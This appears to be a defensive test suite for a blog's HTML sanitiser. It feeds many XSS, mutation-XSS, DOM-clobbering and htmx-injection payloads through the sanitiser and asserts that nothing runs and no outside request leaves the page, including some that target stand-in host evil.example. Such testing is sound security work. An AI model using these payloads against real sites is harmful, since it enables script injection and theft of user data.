"""Guest HTML cannot act: not what guests write, not what an import brings, in no place where it is shown.

Three walls: the cleaned list of elements, `hx-ignore` round every such text with htmx's second prefix switched off,
and the policy. The vectors of the corpora beside the project come with some of our own, aimed at htmx.
"""

import json
import re
from collections.abc import Callable, Iterable
from itertools import chain
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Page, expect

from blueprints.comments.models import APPROVED, Comment, add
from blueprints.core.db import db, writing
from blueprints.core.markdown import clean_comment, clean_post, comment_html, post_html, without_links
from blueprints.posts.models import Post
from tests.conftest import SHARED, shared_data

RAN = "window.__ran=1"
OWN = [
    "<p>a<button>b<p>c</p></button></p><p>d<object>e<p>f</object>",
    f'<div hx-post="/sign-out" hx-trigger="load">a</div><img src=x onerror="{RAN}">',
    '<div data-hx-get="/nowhere" data-hx-trigger="load">b</div>',
    '<a href="/" hx-get="/nowhere" hx-trigger="load, mouseover, intersect, revealed">c</a>',
    '<p hx-trigger="every 1ms" hx-get="/nowhere" hx-target="body">d</p>',
    f'<b hx-on:load="{RAN}" hx-on::after:init="{RAN}" hx-on="load: {RAN}">e</b>',
    '<hx-partial hx-target="#status" hx-swap="innerHTML">taken over</hx-partial>',
    '<template hx type="partial" hx-target="#comments">taken over</template>',
    '<TEMPLATE HX TYPE="partial" hx-target="body"><b>taken over</b></TEMPLATE>',
    f'<hx-partial hx-target="body"><script>{RAN}</script></hx-partial><HX-PARTIAL hx-target=body>x</HX-PARTIAL>',
    f"<hx-anything hx-boost=true hx-vals=\"js:{{a: {RAN}}}\" hx-headers='js:{{}}'>f</hx-anything>",
    '<form id="comment-form" action="https://evil.example/" hx-post="/nowhere"><input name="token"><button>x</button></form>',  # noqa: E501
    '<p id="status">clobbered</p><p id="comment-1">clobbered</p><a id="comment-list" href="#">clobbered</a>',
    '<h2 id="comments">clobbered</h2><h2 id="own-comments">x</h2><li id="thread-news">x</li><sup id="post">x</sup>',
    '<a id="htmx" href="#x">x</a><a id="localStorage" href="#x">x</a><a name="forms" href="#x">x</a>',
    '<img name="getElementById" src="x"><img id="body" src="/x"><form name="querySelector"></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta name="htmx-config" content=\'{"prefix": "data-hx-"}\'><meta http-equiv="Content-Security-Policy" content="">',  # noqa: E501
    f"<svg><g onload={RAN}><a xlink:href=javascript:{RAN}><text>x</text></a></g></svg><svg/onload={RAN}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RAN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
    f'<textarea><p title="</textarea><img src=x onerror={RAN}>"></textarea><xmp><p title="</xmp><img src=x onerror={RAN}>">',  # noqa: E501
    f"<!--><img src=x onerror={RAN}>--><!-- --!><img src=x onerror={RAN}><![CDATA[<img src=x onerror={RAN}>]]>",
    f'<a href="javascript:{RAN}">x</a><a href=" &#14; javascript:{RAN}">x</a><a href="JaVa\tScRiPt:{RAN}">x</a>',
    f'<a href="java&#10;script:{RAN}">x</a><a href="&#106;avascript&colon;{RAN}">x</a><a href="java\0script:{RAN}">x</a>',  # noqa: E501
    f'<a href="vbscript:{RAN}">x</a><a href="data:text/html,<script>{RAN}</script>">x</a><a href="blob:x">x</a>',
    f'<img src="javascript:{RAN}"><img src="data:image/svg+xml,<svg onload={RAN}>"><blockquote cite="javascript:1">x</blockquote>',  # noqa: E501
    '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p><style>@import "//evil.example";</style>',  # noqa: E501
    '<div class="comment-form__notice problem" role="alert" aria-live="assertive" tabindex="-1" autofocus>x</div>',
    '<iframe src="/sign-out"></iframe><object data="/x"></object><embed src="/x"><frame src=x><portal src=x></portal>',
    f'<video src="/x" onerror="{RAN}"><source onerror="{RAN}"></video><audio autoplay src=x></audio><track src=x>',
    '<picture><source srcset="https://evil.example/a 480w"><img src="/x" srcset="//evil.example/b 480w"></picture>',
    f'<details open ontoggle="{RAN}"><summary>x</summary></details><marquee onstart="{RAN}">x</marquee>',
    f'<input autofocus onfocus="{RAN}"><select autofocus onfocus="{RAN}"></select><body onload="{RAN}">',
    '<p contenteditable accesskey="x" slot="x" is="x" itemscope draggable="true" popover popovertarget="x" inert>x</p>',
    '<a href="/" target="_blank" ping="https://evil.example/" download rel="opener" referrerpolicy="unsafe-url">x</a>',
    '<link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example"><script src=//x></script>',  # noqa: E501
    '</div></article></li></ol></section><form id="x" action="/sign-out" method="post"><button>Escaped</button></form>',
    "</textarea></title></style></script></template></noscript><b>out</b>",
    f"[x](javascript:{RAN}) [x](JAVASCRIPT:{RAN}) [x](<javascript:{RAN}>) [x](javascript&colon;{RAN}) [x](java\nscript:{RAN})",  # noqa: E501
    f"[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:{RAN}) [x](&#106;avascript:{RAN}) [x](%6Aavascript:{RAN})",
    f"<javascript:{RAN}> <data:text/html,x> <vbscript:x> <hx-get:/nowhere> <JavaScript:{RAN}>",
    f"![x](https://evil.example/x.png) ![x](javascript:{RAN}) ![x](data:image/png;base64,x) ![x](//evil.example/x.png)",
    f'[a [b](javascript:{RAN}) c](http://x.example) [x](http://x.example "t" onclick={RAN}) [x](http://x"onclick="{RAN})',
    f'[x]()[]()[](javascript:{RAN})[x](<>) [x]( \'a"b\' ) ["onmouseover="{RAN}](http://x.example)',
    f'[x]: javascript:{RAN}\n[x] [y][x]\n\n[z]: http://x.example "\\"onclick={RAN}"\n[z]',
    f'```" onload="{RAN}\n<img src=x onerror={RAN}>\n```\n\n`<hx-partial>` ``<script>{RAN}</script>``',
    f'```html\n<img src=x onerror={RAN}><hx-partial></code></pre><script>{RAN}</script>\n```\n\n~~~python\n"<b onclick={RAN}>"\n~~~',  # noqa: E501
    f'http://x.example/"onmouseover="{RAN} www.x.example/<img/src=x/onerror={RAN}> x@x.example\'onclick={RAN}',
    f"> <img src=x onerror={RAN}>\n\n- <svg onload={RAN}>\n\n1. <a href=javascript:{RAN}>x</a>\n\n| <b onclick={RAN}> |\n|--|\n",  # noqa: E501
    f"$\\text{{<img src=x onerror={RAN}>}}$ $\\href{{javascript:{RAN}}}{{x}}$ $\\class{{a}}{{x}}$ $\\style{{a:b}}{{x}}$ $<hx-partial>$",  # noqa: E501
    f"<math href='javascript:{RAN}'><mi href='javascript:{RAN}' hx-get='/nowhere'>x</mi><mtext><b onclick={RAN}>y</b></math>",  # noqa: E501
    f"&lt;img src=x onerror={RAN}&gt; &amp;lt;script&amp;gt; \\<script>{RAN}\\</script> &#60;hx-partial&#62;",
]
INLINE = """a abbr b bdi br cite code del dfn em i ins kbd mark q ruby rp rt s samp small strong sub sup time u var"""
MATHS = """math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace
msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover"""
IN_COMMENTS = {*"a abbr b blockquote br cite code del em i ins li ol p pre q s samp strong ul var".split()}  # noqa: SIM905
IN_POSTS = {
    *f"""{INLINE} {MATHS} wbr aside blockquote caption dd details div dl dt figcaption figure h2 h3 h4 h5 h6 hr img li
    ol p picture pre section source span summary table tbody td tfoot th thead tr ul""".split()
}
COMMENT_ATTRIBUTES = {"href", "rel", "start", "lang", "dir"}
POST_ATTRIBUTES = {
    *"""lang dir href title hreflang id cite datetime open src alt width height value start reversed type colspan
    rowspan align scope rel loading decoding srcset sizes media role
    display notation linethickness mathvariant accent fence form largeop
    maxsize minsize movablelimits separator stretchy height lspace voffset depth displaystyle scriptlevel columnspacing
    rowspacing columnalign accentunder""".split()  # noqa: SIM905
}
AS_COMMENT: dict[str, Callable[[str], str]] = {
    "written": comment_html,
    "imported": clean_comment,
    "held": lambda text: without_links(comment_html(text)),
    "written and held as HTML": lambda text: without_links(clean_comment(text)),
}
AS_POST: dict[str, Callable[[str], str]] = {"written": post_html, "imported": clean_post}


def dompurify() -> list[str]:
    return [case["payload"] for case in json.loads(shared_data("html-safety/dompurify-expect.json").read_text())]


def html5lib() -> list[str]:
    return [case["input"] for case in json.loads(shared_data("html-safety/html5lib-sanitizer-tests1.dat").read_text())]


def bleach() -> list[str]:
    files = sorted(shared_data("html-safety/bleach").glob("*.test"))
    return [file.read_text().partition("\n--\n")[0] for file in files]


def owasp() -> list[str]:
    text = shared_data("html-safety/owasp-xss-filter-evasion.md").read_text()
    return re.findall(r"^```\w*\n(.*?)^```", text, re.M | re.S)


SOURCES = {"own": (lambda: OWN, 40), "dompurify": (dompurify, 100), "html5lib": (html5lib, 50)}
SOURCES |= {"bleach": (bleach, 15), "owasp": (owasp, 50)}


@pytest.fixture(params=SOURCES)
def vectors(request: pytest.FixtureRequest) -> list[str]:
    find, at_least = SOURCES[request.param]
    found = find()
    assert len(found) >= at_least
    return found


def faults(html: str, tags: set[str], attributes: set[str]) -> Iterable[str]:
    """What in *html* could act."""
    if "<hx" in html.lower() or "<template" in html.lower():
        yield "an element of htmx"
    for parser in ("lxml", "html.parser"):
        for element in BeautifulSoup(html, parser).find_all(True):
            if element.name not in tags | {"html", "body"}:
                yield f"<{element.name}>"
            for name, value in element.attrs.items():
                if name not in attributes or name.startswith(("on", "hx-", "data-")):
                    yield f"{element.name} {name}={value}"
                if name == "srcset" and not value.startswith("/media/"):
                    yield f"{element.name} {name}={value}"
                if name in ("href", "src", "cite"):
                    # As the URL standard reads it: leading control characters and every tab and line end are nothing.
                    scheme = re.match(r"[a-z][a-z0-9+.-]*(?=:)", re.sub(r"^[\x00-\x20]+|[\t\r\n]", "", value), re.I)
                    if scheme and scheme[0].lower() not in ("http", "https", "mailto"):
                        yield f"{element.name} {name}={value}"


@pytest.mark.parametrize("door", AS_COMMENT)
def test_comment_keeps_nothing_that_acts(vectors, door):
    clean = AS_COMMENT[door]
    found = {text: list(faults(clean(text), IN_COMMENTS, COMMENT_ATTRIBUTES)) for text in vectors}
    assert {text: lines for text, lines in found.items() if lines} == {}
    assert all(clean_comment(clean(text)) == clean(text) for text in vectors if door != "held")
    links = [link for text in vectors for link in BeautifulSoup(clean(text), "lxml").find_all("a", href=True)]
    assert all(link["rel"] == ["nofollow", "ugc", "noopener"] for link in links)


@pytest.mark.parametrize("door", AS_POST)
def test_post_keeps_nothing_that_acts(vectors, door):
    clean = AS_POST[door]
    found = {text: list(faults(clean(text), IN_POSTS, POST_ATTRIBUTES)) for text in vectors}
    assert {text: lines for text, lines in found.items() if lines} == {}
    assert [text for text in vectors if clean_post(clean(text)) != clean(text)] == []
    assert [text for text in vectors if re.search(r"(?:src|srcset)=[^>]*evil", clean(text))] == []


def test_guests_markup_is_shown_as_they_typed_it():
    assert comment_html("<hx-partial>") == "<p>&lt;hx-partial&gt;</p>\n"
    assert comment_html("<javascript:alert(1)>") == "<p>&lt;javascript:alert(1)&gt;</p>\n"
    assert BeautifulSoup(comment_html("[x](javascript:alert(1))"), "lxml").find("a") is None
    assert BeautifulSoup(comment_html("![x](https://x.example/x.png)"), "lxml").find("img") is None


def test_id_in_a_post_is_never_one_that_the_page_uses(client, make):
    post = make.post()
    comment = make.comment(post)
    page = BeautifulSoup(client.get(f"/posts/{post.slug}").data, "lxml")
    form = BeautifulSoup(client.get(f"/comments/{comment.id}/reply").data, "lxml")
    ids = {element["id"] for element in chain(page.find_all(id=True), form.find_all(id=True))}
    assert len(ids) > 15
    kept = [name for name in ids if "id=" in clean_post(f'<h2 id="{name}">x</h2><a id="{name}">x</a>')]
    assert kept == []
    assert 'id="a-place-of-its-own"' in clean_post('<h2 id="a-place-of-its-own">x</h2>')


# In a browser

WATCH = f"window.alert = window.confirm = window.prompt = window.print = () => {{ {RAN} }}"
POKE = """() => {
  addEventListener("click", event => event.preventDefault());
  addEventListener("submit", event => event.preventDefault());
  const names = ["mouseover", "mouseenter", "pointerdown", "focus", "focusin", "input", "change", "toggle", "load",
                 "error", "animationend", "transitionend", "scroll", "intersect", "revealed", "click", "submit"];
  for (const element of document.querySelectorAll(".prose *"))
    for (const name of names) element.dispatchEvent(new Event(name, {bubbles: name === "click", cancelable: true}));
}"""


CLASHES = """() => [...document.querySelectorAll('.prose [id]')].map(element => element.id)
  .filter(id => [...document.querySelectorAll('[id]')].some(other => other.id === id && !other.closest('.prose')))"""
# Our own script lets the keyboard scroll what is wider than its place.
OURS = 'pre[tabindex="0"], table[tabindex="0"]'
ACTING = f"""() => [...document.querySelectorAll('.prose *:not({OURS})')].filter(element => element.getAttributeNames()
  .some(name => /^(on|hx|data-|style|class|autofocus|tabindex|form|action)/.test(name)))
  .map(element => element.outerHTML.slice(0, 200))"""
LEADING_ELSEWHERE = """() => [...document.querySelectorAll('a[href]')].map(link => link.protocol)
  .filter(protocol => !['http:', 'https:', 'mailto:'].includes(protocol))"""


def everything() -> list[str]:
    """The vectors of all sources that are here."""
    corpora = (dompurify, html5lib, bleach, owasp) if SHARED.exists() else ()
    return [*OWN, *(text for find in corpora for text in find())]


def tell(post: Post, first: str, texts: Iterable[str]) -> None:
    """Inside a write: one conversation that shows every one of *texts*, which have been cleaned."""
    root = Comment(post=post, name="Root", state=APPROVED)
    root.write(first)
    add(root)
    shown = list(texts)
    for start in range(0, len(shown), 20):
        # A name is escaped, but may try as well.
        comment = Comment(post=post, parent=root, name=OWN[start % len(OWN)][:80], state=APPROVED)
        comment.write(first)
        comment.html = "\n".join(shown[start : start + 20])
        add(comment)


@pytest.fixture
def full(server) -> Post:
    """A post of hostile HTML with three hostile conversations, of which two stand on its first page."""
    vectors = everything()
    post = server.post("Hostile")
    with server.database(), writing():
        post = db.session.merge(post)
        post.body_html = "\n".join([*map(clean_post, vectors), *map(post_html, vectors)])
        tell(post, "First", map(comment_html, vectors))
        tell(post, "Second", map(clean_comment, vectors))
        tell(post, "Third", map(clean_comment, vectors))
    return post


class Asked(list):
    """The requests of a page that nothing of ours makes."""

    OURS = re.compile(r"/static/[\w-]+\.(css|js|svg)|/posts/[\w-]+(/comments(/mine)?)?|/favicon\.ico")

    def note(self, request) -> None:
        path = urlsplit(request.url).path
        ours = request.method == "GET" and self.OURS.fullmatch(path)
        # An author may place a picture in a post; what it shows is then for this site's own addresses to say.
        picture = request.resource_type == "image" and request.method == "GET"
        if not (ours or picture):
            self.append(f"{request.method} {request.url}")


def open_hostile(visit, server, path: str, *, policy: bool) -> tuple[Page, Asked]:
    server.hold("none")
    page, watch = visit()
    # Pictures of posts that are not there, and pictures of other hosts that the policy keeps away.
    watch.expect("404", "violates the following Content Security Policy directive", "400")
    asked = Asked()
    page.context.on("request", asked.note)
    page.add_init_script(WATCH)
    if not policy:

        def without_policy(route) -> None:
            response = route.fetch()
            headers = {name: value for name, value in response.headers.items() if "security-policy" not in name}
            assert len(headers) < len(response.headers)
            route.fulfill(response=response, headers=headers)

        page.route(re.compile(r"/posts/[\w-]+$"), without_policy)
    page.goto(path, timeout=30_000)
    return page, asked


def assert_quiet(page: Page, asked: Asked) -> None:
    page.evaluate(POKE)
    # Whatever was set off has had its turn when the next animation frame and an idle moment have come.
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestIdleCallback(done)))")
    assert page.evaluate("window.__ran") is None
    assert asked == []
    assert page.title().startswith("Hostile")
    assert page.evaluate("document.querySelector('#status').textContent") in ("", "Your comment is published")
    assert page.evaluate(CLASHES) == []
    assert page.evaluate(ACTING) == []
    assert page.evaluate(LEADING_ELSEWHERE) == []


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without it"])
def test_nothing_acts_on_a_page_of_hostile_texts(server, visit, full, policy):
    page, asked = open_hostile(visit, server, f"/posts/{full.slug}", policy=policy)
    expect(page.locator("#comment-list > li")).to_have_count(2)
    assert_quiet(page, asked)


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without it"])
def test_nothing_acts_when_hostile_texts_come_by_htmx(server, visit, full, policy):
    page, asked = open_hostile(visit, server, f"/posts/{full.slug}", policy=policy)
    page.get_by_role("link", name="More comments").click()
    expect(page.locator("#comment-list > li")).to_have_count(3)
    assert_quiet(page, asked)
    with server.database(), writing():
        tell(db.session.merge(full), "Fresh", map(clean_comment, OWN))
    page.evaluate("htmx.trigger('#thread-news', 'poll')")
    link = page.get_by_role("link", name=re.compile("new comments: show"))
    expect(link).to_be_visible()
    link.evaluate("link => htmx.trigger(link, 'click')")
    expect(page.locator(".comment--new").first).to_be_visible()
    assert_quiet(page, asked)


MARK = "Place of the hole"


@pytest.mark.parametrize(
    ("hole", "inside", "acts"),
    [
        ('<b hx-get="/nowhere" hx-trigger="load">x</b>', True, False),
        ('<b hx-get="/nowhere" hx-trigger="load">x</b>', False, True),
        ('<b data-hx-get="/nowhere" data-hx-trigger="load">x</b>', False, False),
        ('<b data-hx-get="/nowhere" hx-trigger="load">x</b>', True, False),
        (f'<img src="/static/x.svg" onerror="{RAN}">', False, False),
    ],
    ids=["hx-ignore holds", "and is needed", "the second prefix is off", "both", "the policy holds"],
)
def test_each_wall_holds_where_another_has_a_hole(server, visit, hole, inside, acts):
    post = server.post("Hostile")
    server.comment(post, MARK)
    page, watch = visit()
    watch.expect("404", "violates the following Content Security Policy directive")
    page.add_init_script(WATCH)
    spot = f"<p>{MARK}</p>" if inside else '<ol id="comment-list"'
    fill = hole if inside else f"{hole}{spot}"

    def open_hole(route) -> None:
        response = route.fetch()
        assert spot in response.text()
        route.fulfill(response=response, body=response.text().replace(spot, fill))

    page.route(f"**/posts/{post.slug}", open_hole)
    if acts:
        with page.expect_request("**/nowhere"):
            page.goto(f"/posts/{post.slug}")
    else:
        page.goto(f"/posts/{post.slug}", wait_until="networkidle")
        assert watch.asked("/nowhere") == []
    assert page.evaluate("window.__ran") is None


def test_watch_would_see_a_script_that_runs(server, visit):
    page, watch = visit()
    watch.expect("dialog: seen")
    with page.expect_event("dialog"):
        page.set_content("<img src='data:,' onerror='setTimeout(() => alert(`seen`))'>")
